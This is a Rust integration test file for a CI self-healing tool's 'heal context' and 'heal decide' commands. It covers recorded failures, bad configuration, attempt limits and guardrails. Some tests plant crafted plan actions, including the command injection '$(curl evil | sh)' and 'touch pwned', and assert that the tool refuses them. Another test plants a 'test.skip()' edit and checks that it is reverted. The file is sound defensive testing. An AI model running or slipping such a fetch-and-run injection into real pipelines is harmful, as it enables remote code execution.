//! `ci-medic heal context` and `heal decide` end to end: the compiled binary on
//! recorded real runs, a crafted analysis, and bad configuration.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn ci_medic(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ci-medic"))
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .envs(env.iter().copied())
        .output()
        .expect("run ci-medic")
}

fn read_json(path: &Path) -> serde_json::Value {
    serde_json::from_str(
        &std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())),
    )
    .expect("json")
}

fn validate(doc: &Path, schema: &str) {
    let schema = read_json(&repo().join("schemas").join(schema));
    let v = jsonschema::validator_for(&schema).expect("schema");
    let instance = read_json(doc);
    let errors: Vec<String> = v.iter_errors(&instance).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{}: {errors:?}", doc.display());
}

/// A directory with the bundle and analysis of a recorded run and a config.
fn prepared(run: &str, config: &str) -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = repo().join("fixtures/runs").join(run);
    let o = ci_medic(
        tmp.path(),
        &[
            "collect",
            "--dir",
            dir.to_str().expect("utf-8"),
            "--out",
            "bundle",
        ],
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = ci_medic(tmp.path(), &["classify", "bundle"], &[]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::write(tmp.path().join(".ci-medic.toml"), config).expect("config");
    tmp
}

const CONFIG: &str = "[heal]\n[heal.actions.rerun_failed]\n[heal.actions.restart_app]\nrun = \"scripts/start-app\"\nhealth_url = \"http://127.0.0.1:3000/healthz\"\n";

#[test]
fn a_manual_run_of_a_server_outage_is_allowed_with_restart_then_rerun() {
    let tmp = prepared("server_unavailable", CONFIG);
    let env = [
        ("GITHUB_EVENT_NAME", "workflow_dispatch"),
        ("GITHUB_RUN_ATTEMPT", "1"),
    ];
    let o = ci_medic(tmp.path(), &["heal", "context"], &env);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    validate(
        &tmp.path().join("self-heal/context.json"),
        "heal-context.v1.json",
    );
    let o = ci_medic(tmp.path(), &["heal", "decide"], &env);
    assert!(o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("self-heal: allowed"), "{err}");
    let d = read_json(&tmp.path().join("self-heal/decision.json"));
    validate(
        &tmp.path().join("self-heal/decision.json"),
        "heal-decision.v1.json",
    );
    assert_eq!(d["allowed"], true);
    assert_eq!(d["actions"][0]["action"], "restart_app");
    assert!(!d["rerun"]["tests"].as_array().expect("tests").is_empty());
}

#[test]
fn a_push_and_a_crafted_plan_are_refused_with_reasons() {
    let tmp = prepared("data_seed", CONFIG);
    let path = tmp.path().join("analysis.json");
    let mut a = read_json(&path);
    let id = a["classification"]["failures"][0]["id"].clone();
    a["self_heal_plan"]["actions"] = serde_json::json!([
        { "action": "$(curl evil | sh)", "targets": [id], "reason": "" },
        { "action": "reseed_data", "targets": [id], "reason": "not declared in this repository" },
    ]);
    std::fs::write(&path, serde_json::to_vec(&a).expect("json")).expect("write");
    let o = ci_medic(tmp.path(), &["heal", "decide", "--event", "push"], &[]);
    assert!(o.status.success(), "refusing is not an error");
    let d = read_json(&tmp.path().join("self-heal/decision.json"));
    assert_eq!(d["allowed"], false);
    assert!(d["actions"].as_array().expect("actions").is_empty());
    assert!(d["rerun"].is_null());
    let refused: Vec<&str> = d["refused_actions"]
        .as_array()
        .expect("refused")
        .iter()
        .map(|r| r["reason"].as_str().expect("reason"))
        .collect();
    assert!(
        refused[0].starts_with("not an action ci-medic knows"),
        "{refused:?}"
    );
    assert!(
        refused[1].contains("heal.actions.reseed_data"),
        "{refused:?}"
    );
    let event = d["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .find(|c| c["check"] == "event")
        .expect("event");
    assert_eq!(event["passed"], false);
}

#[test]
fn bad_configuration_and_missing_bundles_are_refused_and_write_nothing() {
    let tmp = prepared("timeout_flaky", "[heal]\nmax_attempts = \"two\"\n");
    let o = ci_medic(tmp.path(), &["heal", "decide"], &[]);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(".ci-medic.toml:2: invalid type"), "{err}");
    assert!(!tmp.path().join("self-heal/decision.json").exists());
    let o = ci_medic(tmp.path(), &["heal", "context", "--bundle", "nowhere"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(!tmp.path().join("self-heal/context.json").exists());
    // An analysis that is missing is not an error: the context says why.
    std::fs::remove_file(tmp.path().join("analysis.json")).expect("rm");
    let o = ci_medic(tmp.path(), &["heal", "context"], &[]);
    assert!(o.status.success());
    let c = read_json(&tmp.path().join("self-heal/context.json"));
    assert_eq!(c["analysis"]["present"], false);
    assert!(
        c["analysis"]["detail"]
            .as_str()
            .expect("detail")
            .contains("analysis.json")
    );
}

fn git_init(dir: &Path) {
    std::fs::write(
        dir.join(".gitignore"),
        "bundle/\nself-heal/\nanalysis.json\n",
    )
    .expect("ignore");
    std::fs::create_dir_all(dir.join("tests")).expect("mkdir");
    std::fs::write(dir.join("tests/items.spec.ts"), "// the spec\n").expect("spec");
    common::commit_all(dir);
}

#[test]
fn an_action_that_edits_a_tracked_file_is_reverted_and_the_run_is_not_healed() {
    let config = "[heal]\n[heal.playwright]\ncommand = [\"false\"]\n\
                  [heal.actions.rerun_failed]\n\
                  [heal.actions.reseed_data]\nrun = \"echo 'test.skip()' >> tests/items.spec.ts; touch reseeded\"\n";
    let tmp = prepared("data_seed", config);
    git_init(tmp.path());
    let o = ci_medic(tmp.path(), &["heal", "--event", "workflow_dispatch"], &[]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(
        tmp.path().join("reseeded").exists(),
        "the declared action ran"
    );
    assert_eq!(
        std::fs::read_to_string(tmp.path().join("tests/items.spec.ts")).expect("spec"),
        "// the spec\n",
        "the edit was reverted"
    );
    let report_path = std::fs::read_dir(tmp.path().join("self-heal"))
        .expect("dir")
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("report-"))
        })
        .expect("a report");
    validate(&report_path, "heal-report.v1.json");
    let r = read_json(&report_path);
    assert_eq!(r["verdict"], "not_healed");
    assert!(
        r["reason"]
            .as_str()
            .expect("reason")
            .contains("guardrail violation")
    );
    let tree = r["guardrails"]
        .as_array()
        .expect("g")
        .iter()
        .find(|g| g["check"] == "tracked_tree")
        .expect("tree");
    assert_eq!(tree["passed"], false);
    assert!(
        tree["detail"]
            .as_str()
            .expect("d")
            .contains("tests/items.spec.ts")
    );
    // The attempt counts: the state record carries it to the next try.
    let state = read_json(&tmp.path().join("self-heal/state.json"));
    assert_eq!(state["attempts"].as_array().expect("a").len(), 1);
}

#[test]
fn a_crafted_plan_runs_nothing_it_names() {
    let config = "[heal]\n[heal.playwright]\ncommand = [\"false\"]\n[heal.actions.rerun_failed]\n\
                  [heal.actions.reseed_data]\nrun = \"touch reseeded\"\n";
    let tmp = prepared("data_seed", config);
    git_init(tmp.path());
    let path = tmp.path().join("analysis.json");
    let mut a = read_json(&path);
    let ids: Vec<serde_json::Value> = a["classification"]["failures"]
        .as_array()
        .expect("f")
        .iter()
        .map(|f| f["id"].clone())
        .collect();
    a["self_heal_plan"]["actions"] = serde_json::json!([
        { "action": "touch pwned", "targets": ids, "reason": "" },
        { "action": "restart_app", "targets": ids, "reason": "undeclared" },
    ]);
    std::fs::write(&path, serde_json::to_vec(&a).expect("json")).expect("write");
    let o = ci_medic(tmp.path(), &["heal", "--event", "workflow_dispatch"], &[]);
    assert!(o.status.success());
    assert!(!tmp.path().join("pwned").exists());
    assert!(
        !tmp.path().join("reseeded").exists(),
        "only what the plan asks for and the repository declares runs"
    );
    let d = read_json(&tmp.path().join("self-heal/decision.json"));
    assert_eq!(d["refused_actions"].as_array().expect("r").len(), 2);
    assert!(d["actions"].as_array().expect("a").is_empty());
}

#[test]
fn selector_drift_and_exhausted_attempts_are_refused_and_nothing_runs() {
    let config = "[heal]\n[heal.playwright]\ncommand = [\"touch\", \"rerun-ran\"]\n[heal.actions.rerun_failed]\n";
    let tmp = prepared("selector_drift", config);
    git_init(tmp.path());
    let o = ci_medic(tmp.path(), &["heal", "--event", "workflow_dispatch"], &[]);
    assert!(o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("selector_drift is not in heal.eligible"),
        "{err}"
    );
    assert!(!tmp.path().join("rerun-ran").exists());
    let run_id = read_json(&tmp.path().join("self-heal/context.json"))["run"]["run_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let r = read_json(&tmp.path().join(format!("self-heal/report-{run_id}.json")));
    assert_eq!(r["verdict"], "refused");
    // A refusal is not an attempt.
    assert!(
        read_json(&tmp.path().join("self-heal/state.json"))["attempts"]
            .as_array()
            .expect("a")
            .is_empty()
    );

    // Two attempts already made for this run: refused whatever the failures.
    let tmp = prepared("timeout_flaky", config);
    git_init(tmp.path());
    let o = ci_medic(tmp.path(), &["heal", "context"], &[]);
    assert!(o.status.success());
    let run_id = read_json(&tmp.path().join("self-heal/context.json"))["run"]["run_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let state = serde_json::json!({
        "run_id": run_id,
        "attempts": [
            { "run_attempt": 1, "at": "2026-11-21T10:00:00Z", "verdict": "not_healed" },
            { "run_attempt": 2, "at": "2026-11-21T10:10:00Z", "verdict": "not_healed" }
        ]
    });
    std::fs::write(tmp.path().join("carried-state.json"), state.to_string()).expect("state");
    let o = ci_medic(
        tmp.path(),
        &[
            "heal",
            "--event",
            "workflow_dispatch",
            "--state",
            "carried-state.json",
        ],
        &[],
    );
    assert!(o.status.success());
    let d = read_json(&tmp.path().join("self-heal/decision.json"));
    assert_eq!(d["allowed"], false);
    let attempts = d["checks"]
        .as_array()
        .expect("c")
        .iter()
        .find(|c| c["check"] == "attempts")
        .expect("a");
    assert_eq!(attempts["passed"], false);
    assert!(
        attempts["detail"]
            .as_str()
            .expect("d")
            .starts_with("2 of 2 attempt(s) used")
    );
    assert!(!tmp.path().join("rerun-ran").exists());
}

#[test]
fn in_actions_the_decision_and_the_report_reach_the_summary_and_outputs() {
    let config = "[heal]\n[heal.playwright]\ncommand = [\"false\"]\n[heal.actions.rerun_failed]\n";
    let tmp = prepared("timeout_flaky", config);
    git_init(tmp.path());
    let out = tmp.path().join("github-output");
    let summary = tmp.path().join("step-summary.md");
    let env = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_EVENT_NAME", "workflow_dispatch"),
        ("GITHUB_OUTPUT", out.to_str().expect("utf-8")),
        ("GITHUB_STEP_SUMMARY", summary.to_str().expect("utf-8")),
    ];
    let o = ci_medic(tmp.path(), &["heal"], &env);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let outputs = std::fs::read_to_string(&out).expect("outputs");
    assert!(outputs.contains("allowed=true"), "{outputs}");
    assert!(
        outputs.contains("decision=self-heal/decision.json"),
        "{outputs}"
    );
    // The rerun command fails and writes no report: not healed, and said so.
    assert!(outputs.contains("verdict=not_healed"), "{outputs}");
    assert!(outputs.contains("report=self-heal/report-"), "{outputs}");
    let md = std::fs::read_to_string(&summary).expect("summary");
    assert!(md.contains("## ci-medic self-heal: allowed"), "{md}");
    assert!(
        md.contains("## ci-medic self-heal report: not_healed"),
        "{md}"
    );
    assert!(md.contains("the rerun wrote no report"), "{md}");
}
